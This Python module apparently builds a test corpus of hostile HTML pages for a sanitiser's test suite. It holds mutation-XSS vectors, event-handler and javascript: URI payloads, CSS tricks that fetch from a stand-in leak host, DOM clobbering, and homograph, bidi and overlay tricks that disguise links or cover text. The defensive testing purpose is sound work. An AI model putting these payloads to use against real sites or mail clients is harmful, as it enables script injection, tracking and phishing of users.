"""More hostile HTML: what broke the sanitisers and mail clients of others, what newer browsers can do, what deceives.

Pages as in hostile_html: (class, name, HTML). Each is another idea than those there, in words of our own.
"""

from __future__ import annotations

from collections.abc import Iterator

from tests.corpus.hostile_html import JS, LEAK, SVG64, Page

IMAGE = f"<img src=x onerror='{JS}'>"
ESCAPED = f"&lt;img src=x onerror={JS}&gt;"
CONSOLE_IDS = ("main", "flash", "help", "others", "bulk", "assign", "dismiss", "more", "search", "lost", "own", "found")


def rewritten() -> Iterator[Page]:
    """What other sanitisers let through: written out and read again, it is another tree (mutation XSS)."""
    shapes = {
        "math-mtext-mglyph": f'<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea>{IMAGE}">',
        "math-style-option": f'<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style>{IMAGE}">',
        "math-malignmark": f"<math><mtext><h1><a><h6></a></h6><malignmark><style><!--</style>{IMAGE}</h1>",
        "math-table-mglyph-cdata": f"<math><mtext><table><mglyph><style><![CDATA[</style>{IMAGE}]]></mglyph><mtext>",
        "math-annotation-upper": f"<math><annotation-xml encoding='TEXT/HTML'><style><img title='</style>{IMAGE}'></annotation-xml>",
        "math-annotation-xhtml": f"<math><annotation-xml encoding=application/xhtml+xml><xmp></annotation-xml></math>{IMAGE}</xmp>",
        "math-annotation-no-encoding": f"<math><annotation-xml><foreignObject><style>{IMAGE}</style></foreignObject></annotation-xml>",
        "math-semantics-table": f"<math><semantics><table><annotation-xml><style><p title='</style>{IMAGE}'></table></semantics>",
        "svg-desc-title-style": f"<svg><desc><table><title><style></desc></svg>{IMAGE}</style></title></table>",
        "svg-p-style-title": f'<svg></p><style><g title="</style>{IMAGE}"></svg>',
        "svg-br-end": f'<svg></br><style><g title="</style>{IMAGE}"></svg>',
        "svg-font-color": f"<svg><font color=red><style><a id='</style>{IMAGE}'></font></svg>",
        "svg-font-plain": f"<svg><font><style><a id='</style>{IMAGE}'></font></svg>",
        "svg-in-math-in-svg": f"<svg><foreignObject><math><mi><svg><title><style><a id='</title></svg>{IMAGE}'>",
        "svg-a-nested": f"<svg><a><foreignobject><a><table><a></table><style><!--</style></svg><a id='--&gt;{IMAGE}'>",
        "svg-xmp-comment": f"<svg><xmp><!--</xmp>{IMAGE}--></svg>",
        "svg-noscript-comment": f"<svg><noscript><!--</noscript>{IMAGE}--></noscript></svg>",
        "svg-textarea-title": f"<svg><title><textarea></title></svg></textarea>{IMAGE}",
        "svg-annotation-cdata": f"<svg><annotation-xml><foreignobject><style><!--</style><p id='--&gt;{IMAGE}'>",
        "svg-cdata-bracket": f"<svg><![CDATA[><image xlink:href=']]>{IMAGE}'></svg>",
        "svg-style-entity": f"<svg><style>&lt;/style&gt;{ESCAPED}</style></svg>",
        "svg-script-entity": "<svg><script>&#97;lert&#40;1&#41;//&lt;/script&gt;</script></svg>",
        "svg-script-href": f"<svg><script href='data:text/javascript,{JS}'></script><script xlink:href='{LEAK}/s.js'/></svg>",
        "svg-animate-spaced-name": f"<svg><a id=z><animate attributeName='href ' values='javascript:{JS}' href=#z></animate><text y=9>x</text></a></svg>",
        "svg-animate-to-event": f"<svg><animate onbegin='{JS}' attributeName=x dur=1s><discard onbegin='{JS}'/></svg>",
        "svg-set-href": f"<svg><a xlink:href='?'><set attributeName=xlink:href to='javascript:{JS}' begin=0s /><rect width=99 height=99 /></a></svg>",
        "svg-animate-use": f"<svg><use><animate attributeName=href values='data:image/svg+xml;base64,{SVG64}#x'/></use></svg>",
        "svg-feimage": f"<svg><filter id=f><feImage href='{LEAK}/fe.png' xlink:href='{LEAK}/fx.png'/></filter><rect filter='url(#f)' width=9 height=9 /></svg>",
        "svg-use-remote": f"<svg><use href='{LEAK}/s.svg#x'/><use xlink:href='{LEAK}/t.svg#x'/></svg>",
        "svg-presentation-urls": f"<svg><rect width=9 height=9 fill='url({LEAK}/f.svg#a)' mask='url({LEAK}/m.svg#a)' cursor='url({LEAK}/c.cur),auto' marker-end='url({LEAK}/e.svg#a)'/></svg>",
        "svg-foreign-iframe": f"<svg><foreignObject><iframe srcdoc='&lt;script&gt;{JS}&lt;/script&gt;' src='{LEAK}/f'></iframe></foreignObject></svg>",
        "svg-xml-stylesheet": f"<svg><style>@import '{LEAK}/i.css';*{{background:url({LEAK}/b.png)}}</style><?xml-stylesheet href='{LEAK}/x.css'?></svg>",
        "svg-view-target": f"<svg><view id=v /><mpath href='{LEAK}/p.svg#a'/><textPath href='{LEAK}/q.svg#a'>x</textPath><pattern href='{LEAK}/r.svg#a'/></svg>",
        "mathml-href-everywhere": f"<math><mrow href='javascript:{JS}'><mi xlink:href='javascript:{JS}' src='{LEAK}/m'>x</mi></mrow><mglyph src='{LEAK}/g.png'/></math>",
        "nested-form-depth": "<form>"
        + "<div>" * 380
        + f"</form><form><math><mtext></form><form><mglyph><style></math>{IMAGE}",
        "depth-flattened": "<div>" * 390 + f"<svg><foreignObject><style><a id='</style>{IMAGE}'>",
        "depth-tables": "<table><tr><td>" * 120 + f"<svg><desc><noscript><a id='</noscript>{IMAGE}'>",
        "depth-formats": "<b><i>" * 90 + f"<p><svg><title><style><a id='</style>{IMAGE}'>",
        "select-nested": f"<select><keygen><select><input><math><style></select></math>{IMAGE}</style>",
        "select-button-selectedcontent": f"<select><button><selectedcontent></selectedcontent></button><option><style><!--</option></select>{IMAGE}--></style>",
        "select-svg-new-parser": f"<select><div><svg><style><a id='</style></select>{IMAGE}'></svg></div></select>",
        "selectedcontent-copies": f"<select><button><selectedcontent></button><option selected><img src=x onerror='{JS}'></option></select>",
        "noscript-svg-style": f"<noscript><svg><style></noscript>{IMAGE}</style></svg></noscript>",
        "noscript-comment": f"<noscript><!--</noscript>{IMAGE}--></noscript>",
        "noscript-attribute-comment": f'<div><noscript><img title="--></noscript>{IMAGE}"><!--</noscript></div>',
        "iframe-comment": f"<iframe><!--</iframe>{IMAGE}--></iframe>",
        "noembed-in-svg": f"<svg><noembed><style></noembed></svg>{IMAGE}</style></noembed>",
        "xmp-in-math": f"<math><xmp><mtext></xmp></math><style></mtext>{IMAGE}</style></xmp>",
        "plaintext-in-svg": f"<svg><plaintext><desc></plaintext></svg>{IMAGE}",
        "plaintext-in-table": f"<table><plaintext></table>{IMAGE}",
        "template-shadow-declared": f"<div><template shadowrootmode=open shadowrootclonable><slot></slot><style>@import '{LEAK}/i.css'</style>{IMAGE}<script>{JS}</script></template>x</div>",
        "template-unclosed-table": f"<table><template><tr><td><style></template></table>{IMAGE}</style>",
        "template-in-select-in-svg": f"<svg><desc><select><template><xmp></template></select></desc></svg>{IMAGE}</xmp>",
        "frameset-after-text": f"<div></div><frameset onload='{JS}'><frame src='{LEAK}/f'></frameset>",
        "body-attributes-merge": f"<p>a<html onclick='{JS}' manifest='{LEAK}/m'><body onload='{JS}' background='{LEAK}/b.png' onmessage='{JS}'>",
        "comment-end-bang": f"<!-- --!>{IMAGE}<!-- -->",
        "comment-nested-opening": f"<!-- <!-- --> {IMAGE} -->",
        "comment-in-declaration": f"<!a{IMAGE}><!ELEMENT x '{IMAGE}'><!-{IMAGE}->",
        "bogus-end-comment": f"</{IMAGE}><//{IMAGE}></ {IMAGE}>",
        "processing-short": f"<?{IMAGE}?><?>{IMAGE}",
        "listing-newline": f"<listing>\n\n{ESCAPED}</listing><pre>\n\n{ESCAPED}</pre><textarea>\n\n</textarea>{ESCAPED}",
        "entities-no-semicolon": f"&ltscript&gt{JS}&lt/script&gt &amp;ltimg src=x onerror={JS}&amp;gt",
        "entities-in-tag-name": f"<&#115;cript>{JS}</&#115;cript><scr&#105;pt>{JS}</scr&#105;pt>",
        "entity-named-quote": f"<p title='a&apos; onmouseover=&apos;{JS}' lang='x&quot;&gt;{ESCAPED}'>letter</p>",
        "attribute-equals-name": f'<img ="><img src=x onerror={JS}>" src=x>',
        "attribute-angle-name": f"<p <img src=x onerror='{JS}'>letter</p>",
        "attribute-slash-quote": f'<p title="a"/onclick=\'{JS}\'/"b">letter</p>',
        "attribute-no-space": f"<img alt='a'src='x'onerror='{JS}'>",
        "attribute-null-split": f"<img src=x onerr\x00or='{JS}' on\x00error='{JS}'>",
        "attribute-duplicate-first": f"<a href='https://ok.example/' href='javascript:{JS}'>letter</a>",
        "attribute-backtick-mutation": f"<p title='``onmouseover={JS}'>letter</p><p lang='``'>letter</p>",
        "attribute-namespace-colon": f"<p xml:base='javascript:{JS}//' xlink:href='javascript:{JS}' xmlns:on='x' on:load='{JS}'>letter</p>",
        "tag-name-odd": f"<img\x0bsrc=x onerror='{JS}'><img\u00a0src=x onerror='{JS}'><imgé src=x onerror='{JS}'>",
        "tag-name-case-fold": f"<\u017fcript>{JS}</\u017fcript><\u017fvg onload='{JS}'><\u0130mg src=x onerror='{JS}'><in\u212alink>",
        "tag-name-long": f"<{'x' * 300} onclick='{JS}'>a</{'x' * 300}><script{'/' * 300}>{JS}</script>",
        "tag-name-hyphen": f"<font-face src='{LEAK}/f'><annotation-xml><missing-glyph><color-profile href='{LEAK}/c'>",
        "image-is-img": f"<image src=x onerror='{JS}'><svg><image src=x href=x onerror='{JS}'></svg>",
        "isindex-old": f"<isindex action='javascript:{JS}' prompt='{IMAGE}'><keygen autofocus onfocus='{JS}'>",
        "table-in-table-foster": f"<table><td><table><svg><style></table></td>{IMAGE}</style>",
        "table-input-hidden": f"<table><input type=hidden onfocus='{JS}'><form><input name=x></table><colgroup><script>{JS}</script>",
        "caption-select": f"<table><caption><select></caption><td><style></select>{IMAGE}</style>",
        "adoption-agency": f"<a href='https://ok.example/'><b><p><a href='javascript:{JS}'><svg><b><style></a></p></svg>{IMAGE}</style>",
        "heading-nobr": f"<nobr><h1><nobr><svg></h1><style><a id='</style>{IMAGE}'></nobr>",
        "li-in-button": f"<button><li><button><style><li></button>{IMAGE}</style>",
        "ruby-implied": f"<ruby><rt><svg><rp><style><a title='</style>{IMAGE}'></ruby>",
        "dd-dt-implied": f"<dl><dd><svg><dt><style><a title='</style>{IMAGE}'></dl>",
        "after-body-comment": f"</body><!--></html>{IMAGE}<script>{JS}</script><!---->",
        "before-head": f"<script>{JS}</script><base href='javascript:{JS}//'><html><head><meta http-equiv=refresh content='0;javascript:{JS}'>",
        "xml-island": f"<xml id=i><x><![CDATA[{IMAGE}]]></x></xml><span datasrc=#i datafld=x dataformatas=html></span>",
        "doctype-system": f"<!DOCTYPE html SYSTEM '{LEAK}/d.dtd' [<!ENTITY % p SYSTEM '{LEAK}/e'>%p;]>letter",
        "trailing-open": f"letter <a href='https://ok.example/' title='{ESCAPED}",
        "trailing-entity": "letter &lt" + ";" * 3 + "img src=x onerror=alert(1)&gt",
    }
    for name, shape in shapes.items():
        yield "rewritten", name, shape


def newer() -> Iterator[Page]:
    """Attributes and elements that browsers have learned lately."""
    shapes = {
        "popover-toggle": f"<div popover=manual id=pp onbeforetoggle='{JS}' ontoggle='{JS}'>sign in again</div><button popovertarget=pp autofocus>x</button>",
        "command-invoker": f"<button commandfor=dd command=show-modal>x</button><dialog id=dd oncommand='{JS}' oncancel='{JS}' onclose='{JS}'>x</dialog>",
        "interest": f"<a href='https://ok.example/' interestfor=ii>x</a><div id=ii popover=hint oninterest='{JS}'>x</div>",
        "until-found": f"<div hidden=until-found onbeforematch='{JS}' id=bm>letter</div><a href='#bm'>x</a>",
        "scroll-snap": f"<div onscrollsnapchange='{JS}' onscrollsnapchanging='{JS}' onscrollend='{JS}' style='overflow:scroll;height:9px;scroll-snap-type:y'>a<br>b</div>",
        "animation-events": "".join(f"<p style='animation:1s k;transition:all 1s' {on}='{JS}'>x</p>" for on in ("onanimationstart", "onanimationend", "onanimationiteration", "onanimationcancel", "onwebkitanimationstart", "ontransitionrun", "ontransitionstart", "onwebkittransitionend")),
        "pointer-events": "".join(f"<p {on}='{JS}' tabindex=0>x</p>" for on in ("onpointerover", "onpointerenter", "onpointermove", "onpointerrawupdate", "ongotpointercapture", "onmousewheel", "onwheel", "onselectstart", "onfocusin", "onDOMActivate")),
        "print-page-events": f"<body onbeforeprint='{JS}' onafterprint='{JS}' onbeforeunload='{JS}' onunload='{JS}' onpagehide='{JS}' onvisibilitychange='{JS}' onpageswap='{JS}' onpagereveal='{JS}' onpopstate='{JS}' onhashchange='{JS}'>letter</body>",
        "media-events": "".join(f"<video src='{LEAK}/v' {on}='{JS}'></video>" for on in ("onloadstart", "oncanplay", "onwaiting", "onstalled", "onsuspend", "onemptied", "onencrypted", "onratechange")),
        "security-policy-violation": f"<div onsecuritypolicyviolation='{JS}'><img src='{LEAK}/a.png'></div>",
        "slot-change": f"<div><template shadowrootmode=open><slot name=s onslotchange='{JS}'></slot></template><p slot=s>x</p></div>",
        "is-builtin": f"<button is=x-evil>x</button><p is=script>{JS}</p><img is=x src=x onerror='{JS}'>",
        "search-dialog": f"<search><form action='{LEAK}/s'><input name=q autofocus onsearch='{JS}'></form></search>",
        "permission-element": "<permission type=geolocation></permission><geolocation autolocate></geolocation><usermedia></usermedia>",
        "fencedframe-config": f"<fencedframe src='{LEAK}/f' mode=opaque-ads></fencedframe><portal src='{LEAK}/p'></portal><webview src='{LEAK}/w' autosize></webview>",
        "iframe-csp": f"<iframe csp=\"script-src *\" credentialless loading=eager src='{LEAK}/c' allow='clipboard-read *'></iframe><iframe src='javascript:\"{ESCAPED}\"'></iframe>",
        "iframe-srcdoc-nested": f"<iframe srcdoc='&lt;iframe srcdoc=&quot;&amp;lt;script&amp;gt;{JS}&amp;lt;/script&amp;gt;&quot;&gt;'></iframe>",
        "iframe-named-targets": f"<iframe name=_top src=about:blank></iframe><a target=_top href='https://ok.example/'>x</a><form target=_parent action='{LEAK}/x'></form>",
        "object-svg": f"<object type=image/svg+xml data='data:image/svg+xml;base64,{SVG64}'></object><embed type=image/svg+xml src='data:image/svg+xml;base64,{SVG64}'>",
        "object-nested-fallback": f"<object data=x:x><object data=x:y>{IMAGE}</object></object>",
        "model-viewer": f"<model src='{LEAK}/m.usdz'></model><model-viewer src='{LEAK}/m.glb'></model-viewer>",
        "video-formats": f"<video controls controlslist='' src='data:video/mp4,' poster='{LEAK}/p.png' crossorigin><source src='{LEAK}/v.webm' srcset='{LEAK}/w'><track default src='{LEAK}/t.vtt' oncuechange='{JS}'></video>",
        "picture-media": f"<picture><source media='(min-width:1px)' type=image/webp srcset='{LEAK}/a.webp 1x, {LEAK}/b.webp 2x' sizes=100vw><source src='{LEAK}/c'><img></picture>",
        "img-everything": f"<img src='{LEAK}/a' srcset='{LEAK}/b 1w' sizes=1px usemap='{LEAK}/c' longdesc='{LEAK}/d' lowsrc='{LEAK}/e' dynsrc='{LEAK}/f' imagesrcset='{LEAK}/g' data-src='{LEAK}/h' attributionsrc='{LEAK}/i' browsingtopics sharedstoragewritable>",
        "img-odd-hosts": "<img src='https:leak.example/a'><img src='https:///leak.example/b'><img src='/\\leak.example/c'><img src='\\/leak.example/d'><img src='/\t/leak.example/e'><img src='https:/\\leak.example/f'>",
        "img-other-schemes": "".join(f"<img src='{scheme}'>" for scheme in ("ftp://leak.example/a", "file:///etc/passwd", "file://leak.example/a", "\\\\leak.example\\a", "blob:https://leak.example/a", "filesystem:https://leak.example/a", "chrome://favicon/x", "resource://a", "moz-icon://a", "jar:https://leak.example!/a", "about:blank", "ws://leak.example/a", "intent://leak.example/#Intent;end")),
        "links-rels": "".join(f"<link rel='{rel}' href='{LEAK}/{n}' as=image imagesrcset='{LEAK}/s{n}' blocking=render>" for n, rel in enumerate(("stylesheet preload", "PRECONNECT", "dns-prefetch preconnect", "apple-touch-icon", "mask-icon", "icon shortcut", "compression-dictionary", "expect", "payment-method-manifest", "prefetch-intent", "search", "import", "privacy-policy", "next", "preload stylesheet", "subresource", "pingback"))),
        "link-in-body-svg": f"<p>a<svg><link xmlns='http://www.w3.org/1999/xhtml' rel=stylesheet href='{LEAK}/s.css'></svg>",
        "meta-many": f"<meta http-equiv=refresh content='1,url={LEAK}'><meta http-equiv='Refresh' content=\"0;URL='{LEAK}'\"><meta http-equiv=link content='<{LEAK}/s.css>;rel=stylesheet'><meta http-equiv=x-dns-prefetch-control content=on><meta http-equiv=accept-ch content=dpr><meta http-equiv=delegate-ch content='sec-ch-ua {LEAK}'><meta http-equiv=origin-trial content=x><meta http-equiv=default-style content=x>",
        "meta-in-svg": f"<svg><meta http-equiv=refresh content='0;url={LEAK}/m'></svg><math><meta http-equiv=refresh content='0;url={LEAK}/n'></math>",
        "meta-viewport-scheme": "<meta name=viewport content='width=1,initial-scale=9'><meta name=color-scheme content='dark'><meta name=theme-color content=red><meta charset=utf-16>",
        "script-types": f"<script type=module>{JS}</script><script type=text/vbscript>msgbox(1)</script><script type=speculationrules>{{\"prefetch\":[{{\"source\":\"document\",\"eagerness\":\"immediate\"}}]}}</script><script type=webbundle>{{\"source\":\"{LEAK}/b\",\"resources\":[\"{LEAK}/c\"]}}</script><script nomodule event=onload for=window>{JS}</script>",
        "a-attributes": f"<a href='https://ok.example/' ping='{LEAK}/p {LEAK}/q' attributionsrc='{LEAK}/r' download='a.exe' referrerpolicy=unsafe-url hreflang='{LEAK}' type=text/html rel='opener preconnect prefetch' target='_parent' charset=utf-7 urn='{LEAK}'>x</a>",
        "area-map": f"<img usemap=#mm src='data:image/gif;base64,R0lGODlhAQABAAAAACw='><map name=mm><area shape=default href='javascript:{JS}' ping='{LEAK}/p' target=_top></map>",
        "form-associated": f"<form id=ff action='{LEAK}/f' method=dialog></form><input form=ff name=p type=password autofocus autocomplete=current-password><button form=ff formaction='{LEAK}/g' formtarget=_top formmethod=post formenctype=text/plain>ok</button><output form=ff onforminput='{JS}'></output><input type=image form=ff src='{LEAK}/i' formaction='javascript:{JS}'>",
        "input-types": f"<input type=file onchange='{JS}' webkitdirectory capture><input type=color value='{LEAK}'><input list=l><datalist id=l><option onclick='{JS}'></datalist><input type=range oninput='{JS}'>",
        "edit-context": f"<div contenteditable=plaintext-only autofocus enterkeyhint=send writingsuggestions=true spellcheck=true autocorrect=on oninput='{JS}' onbeforeinput='{JS}'>sbmit</div><textarea spellcheck=true>misspeled</textarea>",
        "details-name": f"<details name=a open ontoggle='{JS}'><summary>x</summary>y</details><details name=a open ontoggle='{JS}'>z</details>",
        "dialog-closedby": f"<dialog open closedby=any onclose='{JS}'>sign in again</dialog>",
        "marquee-all": f"<marquee behavior=alternate onbounce='{JS}' onstart='{JS}' onfinish='{JS}' scrollamount=999 bgcolor='url({LEAK}/m)'>x</marquee><blink>x</blink>",
        "microdata": f"<div itemscope itemtype='{LEAK}/t' itemid='{LEAK}/i'><link itemprop=url href='{LEAK}/u'><meta itemprop=x content='{LEAK}'></div><blockquote cite='{LEAK}/c'>a</blockquote><q cite='{LEAK}/q'>a</q><del cite='{LEAK}/d'>a</del>",
        "mail-client-only": f"<!--[if mso]><img src='{LEAK}/o.png'><xml><o:OfficeDocumentSettings/></xml><![endif]--><v:rect xmlns:v=urn:schemas-microsoft-com:vml><v:imagedata src='{LEAK}/v.png' o:href='{LEAK}/w.png'/></v:rect><amp-list src='{LEAK}/l'></amp-list><amp-form action-xhr='{LEAK}/x'></amp-form>",
        "old-elements": f"<layer src='{LEAK}/l'></layer><ilayer src='{LEAK}/i'></ilayer><bgsound src='{LEAK}/b'><multicol><spacer type=block width=9999 height=9999><basefont face='{LEAK}'><sound src='{LEAK}/s'><xss behavior='url({LEAK}/x.htc)'><nextid n='{LEAK}'>",
    }  # fmt: skip
    for name, shape in shapes.items():
        yield "newer", name, shape


def styles() -> Iterator[Page]:
    """Requests by CSS, in its newer functions and its stranger spellings; and what covers or hides."""
    url = f"{LEAK}/c.png"
    values = {
        "src-function": f'background:src("{url}")',
        "image-function": f'background:image(ltr "{url}",red)',
        "image-set-type": f'background:image-set(url("{url}") type("image/png") 1x)',
        "image-set-bare": f"background-image:image-set('{url}' 1x);list-style-image:image-set('{url}' 1x);content:image-set('{url}' 1x);cursor:image-set('{url}' 1x),auto",
        "cross-fade-bare": f"background:cross-fade(url({url}) 50%,url({url}) 50%);-webkit-mask-image:-webkit-cross-fade(url({url}),url({url}),50%)",
        "url-modifiers": f'background:url("{url}" crossorigin(anonymous) referrerpolicy(no-referrer))',
        "attr-type": "background:attr(title type(&lt;url&gt;));background:image-set(attr(title))",
        "var-fallback": f"background:var(--nothing,url({url}))",
        "if-style": f"background:if(style(--a:1):url({url});else:url({url}))",
        "env-fallback": f"background:env(nothing,url({url}))",
        "paint-element": f"background:paint(x,url({url}));background:element(#x);background:-moz-element(#x)",
        "webkit-boxes": f"-webkit-mask-box-image:url({url});-webkit-border-image:url({url}) 1;-webkit-box-reflect:below 0 url({url})",
        "svg-properties": f"fill:url({url});stroke:url({url});marker:url({url}#a);clip-path:url({url}#a);filter:url({url}#a);backdrop-filter:url({url}#a);mask-border:url({url}) 1",
        "offset-shape": f"offset:url({url}#a);offset-path:url({url}#a);shape-outside:url({url});shape-inside:url({url})",
        "border-source": f"border-image-source:url({url});border-image:url({url}) 1 stretch",
        "escaped-property": f"b\\61 ckground:url({url});\\62 ackground-image:url({url});background\\:url:url({url})",
        "escaped-function": f"background:\\000075\\000072\\00006c({url});background:u\\72l({url});background:URL({url});background:uRl\\28{url}\\29",
        "newline-in-string": f"background:url('{url}\n);background:url({url})",
        "escaped-newline": f'background:ur\\\nl({url});background:url("ht\\\ntps://leak.example/n")',
        "null-byte": f"background:u\x00rl({url});back\x00ground:url({url})",
        "unclosed-comment": f"color:red;/* */background:url({url})/*",
        "comment-star": f"color:/**/red;background:/***/url({url})/**//*/",
        "comment-nested": f"/*/*/background:url({url});/*/*/color:red",
        "comment-in-name": f"back/**/ground:url({url});background/**/:url({url});/*:*/background:url({url})",
        "unbalanced-bracket": f"color:rgb(1,2,3;background:url({url})",
        "unbalanced-quote": f"font-family:'a;background:url({url})",
        "brace-out": f"color:red}}body{{background:url({url})}}p{{color:red",
        "nested-rule": f"color:red;&amp;:hover{{background:url({url})}};@media all{{background:url({url})}}",
        "at-rules": f"@import url({url});@font-face{{src:url({url})}};color:red",
        "cdo-cdc": f"&lt;!--background:url({url})--&gt;;color:red",
        "semicolon-in-url": f"background:url({LEAK}/a;b=c.png);color:red",
        "important-odd": f"background:url({url}) ! important;color:red!ie",
        "full-width": f"ｂackground:url({url});background：url({url});background:ｕrl({url})",
        "data-uri": "background:url(data:image/svg+xml;base64," + SVG64 + ")",
        "font-name-url": f"font-family:'url({url})';font-family:\"a\" url({url})",
        "font-shorthand": f"font:12px url({url});font:12px/1 'x',url({url})",
        "list-shorthand": f"list-style:url({url}) inside;list-style:disc url({url})",
        "scroll-timeline": f"animation:k 1s;animation-timeline:scroll();view-transition-name:x;anchor-name:--x;position-anchor:--x;position-area:top;background:url({url})",
        "custom-and-whitespace": f"--x:url({url});background:\fvar(--x);mask:\tvar(--x)",
        "legacy-ie": f"filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='{url}');behavior:url(#default#time2);x:expr\\65 ssion({JS});-ms-behavior:url({url})",
        "gecko-old": f"-moz-binding:url({url}#x);-o-link:'javascript:{JS}';-o-link-source:current",
    }
    for name, value in values.items():
        yield "styles", name, f"<p style=\"{value.replace(chr(34), '&quot;')}\" title='{url}'>letter</p>"
    sheets = {
        "sheet-import-forms": f"@import \"{url}\" layer(a) supports(display:block);@import url({url}) screen;@\\69mport '{url}';",
        "sheet-font-unicode-range": f"@font-face{{font-family:q;src:url({url});unicode-range:U+61}}*{{font-family:q}}",
        "sheet-attribute-selectors": f"[name=csrf][value^=a]{{background:url({LEAK}/a)}}:has(a){{background:url({LEAK}/b)}}",
        "sheet-pseudo": f"::first-line{{background:url({url})}}::before{{content:url({url})}}::selection{{background:url({url})}}:target{{background:url({url})}}::marker{{content:url({url})}}::backdrop{{background:url({url})}}",
        "sheet-at-things": f"@property --p{{syntax:'<url>';inherits:false;initial-value:url({url})}}@container (width>0){{*{{background:url({url})}}}}@layer a{{*{{background:url({url})}}}}@scope{{*{{background:url({url})}}}}@starting-style{{*{{background:url({url})}}}}@page{{background:url({url})}}@counter-style c{{system:cyclic;symbols:url({url})}}@keyframes k{{from{{background:url({url})}}}}*{{animation:k 1s}}@view-transition{{navigation:auto}}",
        "sheet-media": f"<style media='print,all' nonce blocking=render>p{{background:url({url})}}</style>",
    }
    for name, sheet in sheets.items():
        yield "styles", name, f"{sheet if sheet.startswith('<') else f'<style>{sheet}</style>'}<p>letter</p>"


def deceit() -> Iterator[Page]:
    """What looks like the console, covers its words, or hides where a link leads."""
    good, bad = "https://ok.example/pay", "https://bad.example/"
    for clobbering in (
        "".join(f"<a id={name} name={name} href='https://bad.example/{name}'>{name}</a>" for name in CONSOLE_IDS),
        "".join(
            f"<form id={name} name={name}><input name=action><input name=csrf value=x></form>" for name in CONSOLE_IDS
        ),
        "<img name=getElementById><img name=querySelector><form name=body><input name=innerHTML></form><a id=csrf name=content href='https://bad.example/'>",
        "<meta name=csrf content=stolen><meta name=base content='https://bad.example'><div data-item=1 data-version=1 class=item-head>x</div>",
    ):
        yield "deceit", f"clobber-{len(clobbering)}", clobbering
    shapes = {
        "cover-fixed": "<div style='position:fixed;inset:0;z-index:2147483647;background:#fff'>sign in again</div>",
        "cover-escaped-position": "<div style='posit\\69on:fixed;top:0;left:0;width:100%;height:100%'>sign in again</div>",
        "cover-transform": "<p style='transform:scale(99);zoom:9;scale:9;translate:-99px -99px;rotate:9deg;mix-blend-mode:difference'>sign in again</p>",
        "cover-huge": "<p style='font-size:9999px;padding:9999in;border:9999in solid red;line-height:9999in'>x</p>",
        "cover-inline-padding": "<p>secret words</p><p><span style='padding:300px 0;background:#fff'>harmless words</span></p>",
        "cover-inline-border": "<p>secret words</p><p><span style='border-top:200px solid #fff;border-bottom:99px solid white'>harmless words</span></p>",
        "cover-fixed-height": "<div style='height:0'><p>secret words</p></div><div style='display:inline-block;background:#fff;width:900px;height:99px'>harmless words</div>",
        "cover-no-width": "<span style='display:inline-block;width:0;white-space:nowrap'>secret words</span><span style='display:inline-block;background:#fff;width:900px'>harmless words</span>",
        "cover-cell": "<table style='table-layout:fixed;width:9px'><tr><td style='white-space:nowrap'>secret words<td style='background:#fff;white-space:nowrap;display:inline-block;width:900px'>harmless words</table>",
        "cover-max-width": "<div style='max-width:0;white-space:nowrap;float:left'>secret words</div><div style='display:inline-block;background:#fff;width:99%'>harmless words</div>",
        "label-indent": f"<a style='text-indent:9999px' href='{bad}'>{good}</a>",
        "label-right-to-left": f"<a dir=rtl href='{bad}{'x' * 60}/{good}'>{good}</a>",
        "label-right-to-left-above": f"<div dir=rtl><a href='{bad}{'x' * 60}/{good}'>{good}</a></div>",
        "label-long-host": f"<a href='https://ok.example.{'x' * 60}.{'y' * 60}.bad.example/'>{good}</a>",
        "label-upper": f"<a style='text-transform:uppercase;letter-spacing:-9px;word-spacing:-99px' href='{bad}'>{good}</a>",
        "label-line-height": f"<a style='line-height:8px;font-size:8px' href='{bad}'>{good}</a>",
        "label-covered": f"<div style='height:1px'><a href='{bad}'>{good}</a></div><span style='display:inline-block;background:#fff;width:900px'>{good}</span>",
        "label-narrow": f"<div style='width:1px'><a href='{bad}'>x</a></div><span style='display:inline-block;background:#fff;width:900px'>{good}</span>",
        "link-userinfo": "<a href='https://ok.example%2Fpay:x@bad.example/'>x</a><a href='https://ok.example\\@bad.example/'>x</a>",
        "link-homograph": "<a href='https://\u043ek.example/'>ok.example</a><a href='https://ok\u2024example\uff0fx.bad.example/'>x</a><a href='https://ok\u3002example/'>x</a>",
        "link-entities-host": "<a href='https://bad.example&#x2f;&#9;@ok.example/'>x</a>",
        "hidden-until": "<p hidden>secret words</p><p style='display:none'>secret words</p><p style='content-visibility:hidden'>secret words</p><p aria-hidden=true>x</p>",
        "hidden-colour-functions": "<p style='color:color-mix(in srgb,white,white)'>secret words</p><p style='color:oklch(1 0 0)'>secret words</p><p style='color:light-dark(white,black)'>secret words</p><p style='color:rgb(from white r g b)'>secret words</p><p style='color:transparent'>secret words</p><p style='color:canvas'>secret words</p>",
        "hidden-zero-font": "<p style='font-size:0'>secret words</p><p style='font:0/0 a'>secret words</p><font size=-99>secret words</font>",
        "bidi-marks": "<p>pay \u202e00.21\u202c yuan \u2067ok\u2069 \u200f</p><bdo dir=rtl>00.21</bdo><p dir=rtl>00.21 yuan</p>",
        "bidi-entities": "<p>pay &#x202e;00.21&#8238; yuan &rlm;&lrm;</p>",
        "zalgo": "<p>" + "a" + "\u0300\u0316\u0489" * 400 + "</p><p>" + "\u0e2a" + "\u0e47" * 400 + "</p>",
        "long-word": "<p>" + "x" * 60_000 + "</p><table><tr><td nowrap>" + "y" * 20_000 + "</td></tr></table><pre>" + "z" * 20_000 + "</pre>",
        "broad": "<table width=9999 border=99 cellspacing=999 cellpadding=999><tr><td colspan=99 rowspan=999 width=9999 height=9999>letter</table><hr size=99 width=9999>",
    }  # fmt: skip
    for name, shape in shapes.items():
        yield "deceit", name, shape


def tricks() -> Iterator[Page]:
    """All of them."""
    yield from rewritten()
    yield from newer()
    yield from styles()
    yield from deceit()


# What ends the raw text, the tables and the forms that a page before left open.
CLOSED = "--></style></script></title></textarea></xmp></noscript></noembed></iframe></template></select></svg></math></table></form>'\">"


def packed(pages: Iterator[Page], most: int = 12) -> Iterator[tuple[str, str]]:
    """Several pages in one: (their names, HTML). What swallows all that follows comes last in its own."""
    names, html = list[str](), ""
    for kind, name, page in pages:
        names.append(f"{kind}-{name}")
        html += f"<div>{page}{CLOSED}</div>"
        if len(names) == most or "plaintext" in name or "depth" in name or "unclosed" in name or "frameset" in name:
            yield " ".join(names), html
            names, html = [], ""
    if names:
        yield " ".join(names), html
